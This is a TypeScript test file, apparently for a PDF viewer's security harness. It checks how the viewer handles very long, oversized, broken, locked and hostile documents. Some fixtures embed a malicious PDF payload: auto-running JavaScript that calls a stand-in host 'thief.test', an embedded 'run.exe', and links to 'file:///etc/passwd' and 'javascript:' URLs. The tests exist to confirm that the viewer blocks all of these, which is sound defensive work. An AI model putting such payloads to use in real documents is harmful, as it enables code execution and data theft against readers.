import { expect, type GuardStage, guardTest as test } from '../parts/guard-test.ts';
import { makePdf } from './make-pdf.ts';
import { readFile, touchButton, untilDrawn } from './viewer-stage.ts';

test.use({ stageName: 'hostile-pdf', hasViewer: true, profile: { abilities: { pdf: true } } });

const said = ({ app }: GuardStage) => app.order('run', { script: 'document.body?.innerText ?? ""' });

/** Only one page at a time is drawn. */
const manyPages = Array.from({ length: 10_000 }, (_, index) => `page ${index + 1}`);

test('a document of ten thousand pages is turned like any other', async ({ stage }) => {
  await readFile(stage, 'long.pdf', makePdf({ pages: manyPages }));
  expect(await untilDrawn(stage)).toContain('page 1');
  expect(await said(stage)).toContain('Page 1 of 10,000');
  await touchButton(stage, 'Next page');
  await expect.poll(() => untilDrawn(stage)).toContain('page 2');
  expect(
    await stage.app.order('run', { script: 'document.querySelectorAll("[data-state] canvas").length' }),
  ).toBe(1);
});

test.describe('a page of any size is drawn within what a terminal can hold', () => {
  for (const size of [
    [2_000_000, 2_000_000],
    [14_400, 1],
    [1, 14_400],
    [0, 0],
  ] as const) {
    test(`${size.join(' by ')} points`, async ({ stage }) => {
      await readFile(stage, `size-${size.join('-')}.pdf`, makePdf({ pages: ['sized'], size }));
      await untilDrawn(stage);
      const script = '{ const { width, height } = document.querySelector("canvas"); [width, height]; }';
      const [width = 0, height = 0] = (await stage.app.order('run', { script })) as number[];
      expect(width * height).toBeLessThanOrEqual(16_000_000);
      expect(Math.min(width, height)).toBeGreaterThan(0);
      expect(Math.max(width, height)).toBeLessThanOrEqual(8_192);
    });
  }
});

test('a broken document says so, and the way back is there', async ({ stage }) => {
  await readFile(stage, 'broken.pdf', `%PDF-1.7\n${'\u0001garbage '.repeat(500)}`);
  await expect.poll(() => said(stage)).toContain('This file cannot be shown here.');
  await touchButton(stage, 'Close file');
  await stage.untilShown('page');
});

test('a document with a password stays closed', async ({ stage }) => {
  const trailer = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>>>/ID[<00><00>]`;
  const locked = makePdf({ pages: ['secret'] }).replace('/Root 1 0 R>>', `/Root 1 0 R${trailer}>>`);
  await readFile(stage, 'locked.pdf', locked);
  await expect.poll(() => said(stage)).toContain('This file is locked with a password');
});

test('script, files and wishes within a document do nothing', async ({ stage }) => {
  const script =
    "app.alert(1); app.launchURL('https://thief.test/script'); this.print(); this.exportDataObject({})";
  const catalogue =
    '/OpenAction 4 0 R/AA<</WC 4 0 R>>/Names<</JavaScript<</Names[(a) 4 0 R]>>/EmbeddedFiles<</Names[(run.exe) 5 0 R]>>>>';
  const objects = [
    `<</S/JavaScript/JS(${script.replace(/[()]/g, '\\$&')})/Next<</S/URI/URI(https://thief.test/next)>>>>`,
    '<</Type/Filespec/F(run.exe)/EF<</F 6 0 R>>>>',
    '<</Length 2>>stream\nMZ\nendstream',
  ];
  stage.world.requests();
  await stage.refusals();
  await readFile(stage, 'busy.pdf', makePdf({ pages: ['quiet'], catalogue, objects }));
  expect(await untilDrawn(stage)).toContain('quiet');
  expect(stage.world.requests()).toEqual(['site.test/', 'site.test/busy.pdf']);
  expect(stage.world.tunnels().filter((target) => target.startsWith('thief'))).toEqual([]);
  expect(await stage.app.display.windows()).toEqual(['guard-harness']);
  expect((await stage.app.order('files')).map(({ name }) => name)).not.toContain('run.exe');
});

test('a touched link of a document is judged like any navigation', async ({ stage }) => {
  stage.world.page('next.test/', '<title>next</title>');
  const follow = async (link: string): Promise<void> => {
    await readFile(stage, 'linked.pdf', makePdf({ pages: ['linked'], link }));
    await untilDrawn(stage);
    await stage.app.order('click', { x: 500, y: 200 });
  };
  await follow('https://next.test/');
  await expect
    .poll(async () => (await stage.app.order('page')).page)
    .toMatchObject({ url: 'https://next.test/' });
  await follow('https://blocked.test/');
  await stage.untilBlocked('rule');
});

test('an address that is none of the web leads nowhere', async ({ stage }) => {
  for (const link of [
    'file:///etc/passwd',
    'javascript:alert(1)',
    'mailto:a@example.test',
    'data:text/html,x',
  ]) {
    await readFile(stage, 'odd-link.pdf', makePdf({ pages: ['odd'], link }));
    await untilDrawn(stage);
    await stage.app.order('click', { x: 500, y: 200 });
    expect(await stage.app.order('run', { script: 'document.querySelectorAll("a").length' })).toBe(0);
    expect((await stage.app.order('page')).page.kind).toBe('file');
  }
});

test('a viewer whose process dies is gone, and the page below is there', async ({ stage }) => {
  await readFile(stage, 'dies.pdf', makePdf({ pages: ['dies'] }));
  await untilDrawn(stage);
  await stage.app.order('crash');
  await stage.untilShown('page');
  expect((await stage.app.order('page')).toast).toBe('file-not-shown');
  expect((await stage.app.order('view')).url).toBe('https://site.test/');
});
